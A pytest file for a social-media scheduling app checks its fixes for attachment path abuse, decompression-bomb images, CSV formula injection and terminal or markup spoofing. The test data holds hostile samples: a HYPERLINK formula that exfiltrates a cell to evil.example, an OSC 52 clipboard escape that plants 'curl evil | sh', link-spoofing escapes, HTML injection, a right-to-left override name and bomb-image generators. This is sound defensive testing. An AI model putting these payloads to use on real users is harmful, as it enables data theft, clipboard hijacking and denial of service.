"""Issue 12, defects 3, 5 and 6: one way in for a post (every attachment through the one image
check, CSV media kept inside the CSV's folder), CSV cells that are not formulas, and remote text
that cannot drive the terminal or the window's markup."""

from __future__ import annotations

import json
import stat
import struct
import zlib
from datetime import timedelta
from pathlib import Path

import pytest
from PIL import Image
from PySide6.QtCore import Qt

from mbdesk.app import main
from mbdesk.domain.images import ImageProblem
from mbdesk.domain.schedule_csv import check_csv
from mbdesk.store import outbox, schedule_io
from mbdesk.store.draft_media import import_image
from mbdesk.store.drafts import DraftInput, MediaInput, save_draft
from mbdesk.store.models import (
    Account,
    FollowerEdge,
    Media,
    Mention,
    OutboxItem,
    OutboxState,
    Person,
    utcnow,
)

HEADER = "datetime,account,text,link,media,alt_text\n"


def run(workspace, *argv: str) -> int:
    return main(["--data-dir", str(workspace.root), *argv])


def media_files(workspace) -> list[Path]:
    root = workspace.media
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def bomb_png(path: Path, side: int = 20_000) -> Path:
    """A tiny PNG that declares ``side``×``side`` pixels (a decompression bomb)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1024)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body)
                     + chunk(b"IEND", b""))
    return path


def bomb_gif(path: Path) -> Path:
    """An animation whose frames together decode to more than 100 million pixels (each
    frame alone is a modest 1000×1000, the file a few kilobytes)."""
    frames = [Image.new("P", (1000, 1000), i % 2) for i in range(120)]
    for frame in frames:
        frame.putpalette([0, 0, 0, 255, 255, 255] + [0] * 762)
    frames[0].save(path, save_all=True, append_images=frames[1:], duration=20, loop=0)
    return path


@pytest.fixture
def shop(db):
    return Account.create(platform="mastodon", handle="shop@example.social")


@pytest.fixture
def sky(db):
    return Account.create(platform="bluesky", handle="shop.bsky.social")


# --- defect 3: attachments go through the one image check ---------------------------------------


def test_post_refuses_etc_shadow_and_copies_nothing(workspace, shop, capsys):
    assert run(workspace, "post", "--account", "shop@example.social", "--media", "/etc/shadow",
               "--alt", "x", "hi") == 2
    err = capsys.readouterr().err
    assert "/etc/shadow" in err and "not an image" in err and "Nothing was queued" in err
    assert OutboxItem.select().count() == 0 and Media.select().count() == 0
    assert media_files(workspace) == []


def test_post_refuses_a_text_file_named_png(workspace, shop, tmp_path, capsys):
    fake = tmp_path / "bread.png"
    fake.write_text("just some words, not a picture\n")
    assert run(workspace, "post", "--account", "shop@example.social", "--media", str(fake),
               "--alt", "bread", "New loaf") == 2
    assert "not an image" in capsys.readouterr().err
    assert OutboxItem.select().count() == 0 and media_files(workspace) == []


def test_post_refuses_a_decompression_bomb_before_it_can_get_stuck(workspace, sky, tmp_path,
                                                                    capsys):
    bomb = bomb_png(tmp_path / "huge.png")
    assert bomb.stat().st_size < 2000
    assert run(workspace, "post", "--account", "shop.bsky.social", "--media", str(bomb),
               "--alt", "a big cake", "Cake!") == 2
    err = capsys.readouterr().err
    assert "too many pixels" in err and "decompression bomb" in err
    # refused at queue time: no row exists that could sit 'unknown' in front of others
    assert OutboxItem.select().count() == 0 and media_files(workspace) == []


def test_post_copies_a_real_image_owner_only_and_warns_on_cadence(workspace, shop, tmp_path,
                                                                  capsys):
    picture = tmp_path / "bread.png"
    Image.new("RGB", (16, 16), "tan").save(picture)
    outbox.enqueue(shop.id, "mastodon", "earlier", scheduled_at=utcnow() + timedelta(days=2),
                   scheduled_tz="UTC")
    when = (utcnow() + timedelta(days=2, minutes=10)).strftime("%Y-%m-%dT%H:%M+00:00")
    assert run(workspace, "post", "--account", "shop@example.social", "--at", when,
               "--media", str(picture), "--alt", "bread", "New loaf") == 0
    captured = capsys.readouterr()
    assert "queued" in captured.out
    assert "Warning:" in captured.err and "min apart" in captured.err  # as the calendar says
    [media] = Media.select()
    assert stat.S_IMODE(Path(media.path).stat().st_mode) == 0o600


def test_csv_media_stays_in_the_csv_folder_unless_confirmed(workspace, shop, tmp_path, capsys):
    folder = tmp_path / "plans"
    folder.mkdir()
    Image.new("RGB", (8, 8), "tan").save(tmp_path / "x.png")
    Image.new("RGB", (8, 8), "tan").save(folder / "ok.png")
    csv_path = folder / "plan.csv"
    csv_path.write_text(HEADER
                        + "2030-03-10 09:00,shop,Up,,../x.png,a\n"
                        + f"2030-03-10 10:00,shop,Abs,,{tmp_path / 'x.png'},a\n"
                        + "2030-03-10 11:00,shop,Passwords,,/etc/shadow,a\n"
                        + "2030-03-10 12:00,shop,Inside,,ok.png,a\n", encoding="utf-8")
    report = schedule_io.check_import(csv_path, "Europe/Madrid")
    assert [[p.code for p in r.problems] for r in report.rows] == [
        ["media_outside"], ["media_outside"], ["media_outside"], []]
    assert run(workspace, "schedule", "import", str(csv_path)) == 1
    assert "outside the CSV's folder" in capsys.readouterr().err
    assert OutboxItem.select().count() == 0

    # confirmed: the paths are allowed, but every file still passes the image check
    allowed = schedule_io.check_import(csv_path, "Europe/Madrid", allow_media_outside=True)
    assert [[p.code for p in r.problems] for r in allowed.rows] == [[], [], ["bad_media"], []]
    csv_path.write_text(HEADER + "2030-03-10 09:00,shop,Up,,../x.png,a\n", encoding="utf-8")
    assert run(workspace, "schedule", "import", str(csv_path), "--allow-media-outside") == 0
    [media] = Media.select()
    assert Path(media.path).parent == workspace.media
    assert stat.S_IMODE(Path(media.path).stat().st_mode) == 0o600


def test_csv_import_refuses_a_bomb_next_to_the_csv(workspace, shop, tmp_path):
    bomb_png(tmp_path / "cake.png")
    csv_path = tmp_path / "plan.csv"
    csv_path.write_text(HEADER + "2030-03-10 09:00,shop,Cake,,cake.png,a\n", encoding="utf-8")
    report = schedule_io.check_import(csv_path, "Europe/Madrid")
    [row] = report.rows
    assert [p.code for p in row.problems] == ["bad_media"]
    assert row.problems[0].detail["code"] == "too_many_pixels"


def test_composer_refuses_an_animation_bomb(workspace, shop, tmp_path):
    from mbdesk.services.scheduling import SchedulingRefused, schedule_draft

    bomb = bomb_gif(tmp_path / "party.gif")
    with pytest.raises(ImageProblem) as refused:  # "Add images…" checks on adding
        import_image(bomb, workspace.media)
    assert refused.value.code == "too_many_pixels"
    # a draft that holds it anyway (an older version, another path) is refused on scheduling
    draft_id = save_draft(None, DraftInput(title="Party", body="Party tonight!",
                                           target_ids=(shop.id,),
                                           media=(MediaInput(str(bomb), "balloons",
                                                             "image/gif"),)))
    with pytest.raises(SchedulingRefused) as exc:
        schedule_draft(draft_id, utcnow() + timedelta(days=1), "UTC", workspace.media)
    [problem] = exc.value.problems
    assert problem.code == "image" and problem.values["code"] == "too_many_pixels"
    assert OutboxItem.select().count() == 0


# --- defect 5: CSV formula injection --------------------------------------------------------------


def test_schedule_export_defuses_formulas_and_imports_back(workspace, shop, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    bodies = [evil, "@alice thanks!", "-10% today", "+1 for rye", "plain text"]
    for i, body in enumerate(bodies):
        outbox.enqueue(shop.id, "mastodon", body, scheduled_at=utcnow() + timedelta(days=1 + i),
                       scheduled_tz="UTC")
    from zoneinfo import ZoneInfo

    exported = schedule_io.export_csv(ZoneInfo("UTC"))
    cells = [line.split(",", 3)[3] for line in exported.splitlines()[1:]]
    assert all(not c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells)
    assert "'=HYPERLINK" in exported and "'@alice" in exported
    report = check_csv(exported.encode(), accounts={
        "shop@example.social": schedule_io.account_lookup()["shop@example.social"]},
        default_zone="UTC", now=utcnow())
    assert [r.body for r in report.rows] == bodies


def test_followers_csv_defuses_formula_names(workspace, shop, capsys):
    person = Person.create(platform="mastodon", remote_id="1", handle="+evil@x.example",
                           display_name='=HYPERLINK("http://evil.example","hi")')
    FollowerEdge.create(account=shop, person=person, first_seen=utcnow())
    assert run(workspace, "followers", "list", "--csv") == 0
    out = capsys.readouterr().out
    assert "'=HYPERLINK" in out and "'+evil@x.example" in out
    assert ",=" not in out and ",+" not in out


def test_guard_keeps_numbers_and_round_trips():
    from mbdesk.domain import csv_safe

    for value in ["=1+2", "+x", "-x", "@x", "\tx", "\rx", "'=already"]:
        assert csv_safe.unguard(csv_safe.guard(value)) == value
    assert csv_safe.guard("-3.5") == "-3.5" and csv_safe.guard(-3) == -3
    assert csv_safe.guard("=x") == "'=x" and csv_safe.guard("ok") == "ok"


# --- defect 6: terminal and text spoofing ---------------------------------------------------------


def test_inbox_list_prints_no_escape_sequences(workspace, shop, capsys):
    author = Person.create(platform="mastodon", remote_id="9", handle="mallory@x.example",
                           display_name="Mal\x1b]0;pwned\x07lory")
    Mention.create(account=shop, remote_id="m1", author=author,
                   text_plain="hi \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 there \x1b[2J\x9b31m",
                   text_html="<p>hi</p>")
    assert run(workspace, "inbox", "list") == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert "\\u001b]52;c;" in out  # shown, escaped
    assert run(workspace, "inbox", "list", "--json") == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x9b" not in out
    [record] = json.loads(out)
    assert record["text"].startswith("hi \x1b]52;c;")  # the data itself is unchanged


def test_outbox_show_and_list_escape_the_servers_error(workspace, shop, capsys):
    item_id = outbox.enqueue(shop.id, "mastodon", "Rye")
    OutboxItem.update(state=OutboxState.FAILED,
                      last_error="refused \x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\").where(
        OutboxItem.id == item_id).execute()
    for argv in (("outbox", "list"), ("outbox", "show", str(item_id))):
        assert run(workspace, *argv) == 0
        assert "\x1b" not in capsys.readouterr().out


def test_outbox_panel_shows_a_servers_error_as_plain_text(qtbot, ctx, shop, tmp_path):
    from mbdesk.store.queries.outbox_list import OutboxFilter
    from mbdesk.ui.views.outbox_panel import OutboxPanel

    item_id = outbox.enqueue(shop.id, "mastodon", "Rye")
    error = "Rejected: <b>bold</b><img src=x>"
    OutboxItem.update(state=OutboxState.FAILED, last_error=error).where(
        OutboxItem.id == item_id).execute()
    panel = OutboxPanel(ctx)
    qtbot.addWidget(panel)
    panel.resize(900, 400)
    panel.set_account(shop.id, shop.handle)
    panel.set_filter(OutboxFilter.ATTENTION)
    panel.show()
    panel.table.selectRow(0)
    assert panel.detail.textFormat() == Qt.TextFormat.PlainText
    assert "<b>bold</b><img src=x>" in panel.detail.text()
    tip = panel.model.index(0, 5).data(Qt.ItemDataRole.ToolTipRole)
    assert "&lt;b&gt;bold&lt;/b&gt;&lt;img src=x&gt;" in tip and "<img" not in tip
    panel.grab().save(str(tmp_path / "outbox-panel.png"))


def test_a_right_to_left_override_in_a_name_is_isolated(qtbot, db, shop):
    from mbdesk.store.queries.people import PeopleFilter
    from mbdesk.ui.models.people import NAME, PeopleTableModel

    name = "evil\u202eGNP.exe"
    person = Person.create(platform="mastodon", remote_id="5", handle="e@x.example",
                           display_name=name)
    FollowerEdge.create(account=shop, person=person, first_seen=utcnow())
    Person.create(platform="mastodon", remote_id="6", handle="bob@x.example", display_name="Bob")
    FollowerEdge.create(account=shop, person=Person.get(Person.remote_id == "6"),
                        first_seen=utcnow())
    model = PeopleTableModel()
    model.set_filter(PeopleFilter())
    shown = {model.index(r, NAME).data() for r in range(model.rowCount())}
    # FSI … PDI around the name, and its open override closed, so nothing after it flips
    assert shown == {"\u2068" + name + "\u2069\u2069", "Bob"}
